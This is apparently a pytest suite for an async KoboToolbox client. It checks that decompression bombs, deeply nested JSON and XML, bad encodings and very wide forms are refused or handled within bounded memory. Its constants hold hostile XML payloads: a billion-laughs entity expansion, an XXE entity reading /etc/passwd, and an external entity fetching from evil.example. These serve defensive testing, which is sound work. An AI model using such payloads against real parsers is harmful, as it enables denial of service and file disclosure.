"""What is too large, too deep or packed too well costs bounded memory and ends in our errors."""

from __future__ import annotations

import gzip
import sqlite3
import tracemalloc
import zlib
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any, Final

import anyio
import duckdb
import httpx
import openpyxl
import pyarrow.parquet as pq
import pytest

from kobo_async import KoboClient, RetryPolicy, instance, xmlread, xmlsplit
from kobo_async.call import Op
from kobo_async.errors import MalformedReply, UnexpectedShape
from kobo_async.forms.columns import Layout, TableOptions
from kobo_async.forms.content import read_form
from kobo_async.forms.layout import lay_out
from kobo_async.forms.tabulate import Tabulator
from kobo_async.sinks import destination
from kobo_async.webhook.delivery import parse
from tests.sinks.postgres import Postgres
from tests.unit.serving import ALICE, TAGS, Server, ok

MB: Final = 2**20
LIMIT: Final = 4 * MB
QUESTIONS: Final = [f"q{number}" for number in range(10_000)]
STEPS: Final = "a/" * 20_000 + "q"
FILE: Op[bytes] = Op("GET", "/file/", bytes, accept="*/*")
BOMB: Final = b'{"a":"' + b" " * (64 * MB) + b'"}'
LAUGHS: Final = b"""<!DOCTYPE x [<!ENTITY a "ha">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>
<x><meta>&e;</meta></x>"""
OUTSIDE: Final = b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x><meta>&y;</meta></x>'
PARAMETER: Final = b'<!DOCTYPE x [<!ENTITY % y SYSTEM "http://evil.example/"> %y;]><x/>'


def packed(body: bytes, packing: str) -> bytes:
    """Pack like a server that means harm."""
    for one in packing.split(", "):
        body = gzip.compress(body) if one == "gzip" else zlib.compress(body)
    return body


def reply(packing: str, body: bytes, status: int = 200) -> httpx.Response:
    async def pieces() -> Any:
        for start in range(0, len(body), 16_384):
            yield body[start : start + 16_384]

    return httpx.Response(status, headers={**ALICE, "Content-Encoding": packing}, content=pieces())


@pytest.mark.anyio
@pytest.mark.parametrize("status", [200, 400])
@pytest.mark.parametrize("packing", ["gzip", "deflate"])
async def test_a_bomb_is_left_alone_once_it_is_too_large(server: Server, packing: str, status: int):
    server.answers(TAGS, reply(packing, packed(BOMB, packing), status))
    async with server.client(largest_reply=LIMIT, retry=RetryPolicy(attempts=1)) as client:
        tracemalloc.start()
        with pytest.raises(MalformedReply, match="more than"):
            await client.request("GET", TAGS)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert most < LIMIT + 36 * MB, "one piece unpacks to a thousand times its size"


@pytest.mark.anyio
@pytest.mark.parametrize("packing", ["gzip, gzip", "deflate, gzip", "zstd", "br", "x", "gzip,gzip"])
@pytest.mark.parametrize("whole", [True, False])
async def test_other_packings_are_not_even_begun(server: Server, packing: str, *, whole: bool):
    server.answers(TAGS, reply(packing, b"x" * 100))
    server.answers("/file/", reply(packing, b"x" * 100))
    async with server.client(retry=RetryPolicy(attempts=1)) as client:
        asked = client.request("GET", TAGS) if whole else _pieces(client)
        with pytest.raises(MalformedReply, match="nobody asked for"):
            await asked
    assert server.requests[0].headers["Accept-Encoding"] == "gzip, deflate"


async def _pieces(client: KoboClient) -> list[bytes]:
    async with client._sender.open(FILE.at()) as body:
        return [piece async for piece in body]


@pytest.mark.anyio
@pytest.mark.parametrize("packing", ["gzip", "deflate", "GZIP", "identity"])
async def test_what_is_packed_as_asked_is_unpacked(server: Server, packing: str):
    body = b'{"a": 1}'
    server.answers(
        TAGS, reply(packing, packed(body, packing.lower()) if packing[0] != "i" else body)
    )
    async with server.client(largest_reply=len(body)) as client:
        assert await client.request("GET", TAGS) == {"a": 1}


@pytest.mark.anyio
@pytest.mark.parametrize(
    ("body", "value"),
    [
        (b'{"a": 1, "a": 2}', {"a": 2}),
        (b'{"a": 18446744073709551615}', {"a": 2**64 - 1}),
        (b'{"a": ' + b"9" * 400 + b"}", None),
        (b'{"a": NaN}', None),
        (b'{"a": Infinity}', None),
        (b'{"a": "\\ud800"}', None),
        (b"[" * 100_000, None),
        (b'{"a":' * 2000 + b"1" + b"}" * 2000, None),
    ],
)
async def test_json_that_is_none_is_refused(server: Server, body: bytes, value: Any):
    server.answers(TAGS, httpx.Response(200, content=body, headers=ALICE))
    async with server.client(retry=RetryPolicy(attempts=1)) as client:
        if value is None:
            with pytest.raises(MalformedReply):
                await client.request("GET", TAGS)
        else:
            assert await client.request("GET", TAGS) == value


@pytest.mark.anyio
@pytest.mark.parametrize("count", [-1, 1.5, "9", True, []])
async def test_a_count_that_is_none_is_refused(server: Server, count: Any):
    page = {"count": count, "next": None, "previous": None, "results": []}
    server.answers("/api/v2/assets/", ok(page))
    async with server.client() as client:
        with pytest.raises(UnexpectedShape, match="a count of"):
            await client.assets.list().all()


@pytest.mark.parametrize("document", [LAUGHS, OUTSIDE, PARAMETER])
@pytest.mark.parametrize(
    "read",
    [
        xmlread.read,
        parse,
        lambda document: xmlsplit.children(document, "meta"),
        lambda document: instance.edited(document, {"a": "b"}, "uuid:x"),
    ],
)
def test_entities_are_never_expanded(read: Any, document: bytes):
    with pytest.raises(MalformedReply, match="document type"):
        read(document)


@pytest.mark.parametrize("encoding", ["nope", "hex", "idna", "undefined", "utf-7", "punycode"])
def test_an_encoding_that_nobody_knows_is_refused(encoding: str):
    document = f"<?xml version='1.0' encoding='{encoding}'?><a/>".encode()
    for read in (xmlread.read, parse):
        with pytest.raises(MalformedReply, match="not well-formed"):
            read(document)


@pytest.mark.parametrize("depth", [201, 100_000])
def test_xml_that_is_nested_too_deep_is_refused(depth: int):
    for read in (xmlread.read, parse, lambda one: instance.edited(one, {"a": "b"}, "x")):
        with pytest.raises(MalformedReply):
            read(b"<a>" * depth + b"</a>" * depth)
    assert repr(xmlread.read(b"<a>" * 200 + b"</a>" * 200)), "what is read can be walked"


def test_a_delivery_of_any_depth_or_size_is_read_or_refused():
    for body in (b'{"a":' * 100_000, b"[" * 100_000, b" " * (11 * MB), b'{"a":1,"a":2}'):
        with pytest.raises(MalformedReply):
            parse(body)


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "parquet", "duckdb", "db"])
def test_an_answer_of_ten_megabytes_is_kept(tmp_path: Path, suffix: str):
    content = {"survey": [{"type": "text", "name": "q", "$xpath": "q"}]}
    layout = lay_out(read_form(content, "x"), TableOptions(numbering="submission"))
    path = tmp_path / f"data.{suffix}"
    target = f"sqlite:///{path}" if suffix == "db" else str(path)

    async def put() -> list[str]:
        async with destination(target).for_tables(layout) as sink:
            await sink.write(Tabulator(layout).add([{"_id": 1, "q": "=" * (10 * MB)}]))
        return list(getattr(sink, "notes", []))

    notes = anyio.run(put)
    assert path.stat().st_size > 0
    assert (suffix == "xlsx") == bool(notes), "a cell of Excel is cut, and that is told"


@pytest.fixture(scope="module")
def wide() -> Layout:
    survey = [{"type": "text", "name": one, "$xpath": one} for one in QUESTIONS]
    layout = lay_out(read_form({"survey": survey}, "x"), TableOptions(numbering="submission"))
    assert len(layout.tables[0].columns) > len(QUESTIONS)
    return layout


def filled(target: str, layout: Layout) -> None:
    """Write a submission with all answers."""

    async def put() -> None:
        async with destination(target).for_tables(layout) as sink:
            await sink.write(Tabulator(layout).add([dict.fromkeys(QUESTIONS, "x") | {"_id": 1}]))

    anyio.run(put)


def csv_columns(path: Path) -> int:
    header, row, rest = path.read_bytes().split(b"\r\n")
    assert not rest
    assert row.count(b",") == header.count(b",")
    return header.count(b",") + 1


def workbook_columns(path: Path) -> int:
    (sheet,) = openpyxl.load_workbook(path).worksheets
    return int(sheet.max_column)


def duckdb_columns(path: Path) -> int:
    with duckdb.connect(str(path)) as base:
        return len(base.table("x").columns)


COLUMNS: Final[dict[str, Callable[[Path], int]]] = {
    "csv": csv_columns,
    "xlsx": workbook_columns,
    "parquet": lambda path: len(pq.read_schema(path)),
    "duckdb": duckdb_columns,
}


@pytest.mark.parametrize("suffix", COLUMNS)
def test_a_form_of_ten_thousand_questions_is_written(tmp_path: Path, wide: Layout, suffix: str):
    path = tmp_path / f"data.{suffix}"
    filled(str(path), wide)
    assert COLUMNS[suffix](path) == len(wide.tables[0].columns)


def test_databases_hold_ten_thousand_questions_in_several_tables(
    tmp_path: Path, wide: Layout, database_server: Postgres
):
    filled(f"sqlite:///{tmp_path}/data.db", wide)
    with closing(sqlite3.connect(tmp_path / "data.db")) as base:
        query = "SELECT count(*) FROM sqlite_schema AS s, pragma_table_info(s.name) AS i"
        assert base.execute(f"{query} WHERE i.name LIKE 'q%'").fetchall() == [(len(QUESTIONS),)]
    with database_server.database() as name:
        filled(database_server.url(name), wide)
        query = """SELECT count(*) FROM information_schema.columns
            WHERE table_schema = 'public' AND column_name LIKE 'q%'"""
        assert database_server.run(query, database=name) == [(len(QUESTIONS),)]


@pytest.mark.parametrize("kind", ["group", "repeat"])
def test_groups_within_groups_are_read(kind: str):
    paths = ["/".join(f"g{one}" for one in range(number + 1)) for number in range(60)]
    survey: list[dict[str, Any]] = [
        {"type": f"begin_{kind}", "name": path.rpartition("/")[2], "$xpath": path} for path in paths
    ]
    survey += [{"type": "text", "name": "q", "$xpath": f"{paths[-1]}/q"}]
    layout = lay_out(read_form({"survey": survey}, "x"))
    assert len(layout.tables) == (1 if kind == "group" else len(paths) + 1)


@pytest.mark.parametrize("only", [(), (STEPS,)], ids=["all", "one"])
def test_a_name_of_many_steps_is_laid_out_in_bounded_memory(only: tuple[str, ...]):
    form = read_form({"survey": [{"type": "text", "name": "q", "$xpath": STEPS}]}, "x")
    tracemalloc.start()
    layout = lay_out(form, TableOptions(only=only))
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 4 * MB
    assert [one.name for one in layout.tables[0].columns if one.path == STEPS] == [STEPS]


def nested(depth: int) -> Any:
    answer: Any = "x"
    for _ in range(depth):
        answer = [answer]
    return answer


def test_an_answer_nested_too_deep_is_refused():
    tabulator = Tabulator(lay_out(read_form({"survey": []}, "x")))
    (batch,) = tabulator.add([{"_id": 1, "q": nested(300)}])
    assert any("[" * 300 in str(cells) for cells in batch.cells)
    (batch,) = tabulator.add([{"_id": 2, "q": nested(1000)}])
    with pytest.raises(UnexpectedShape, match="nested too deep"):
        tuple(batch.cells)
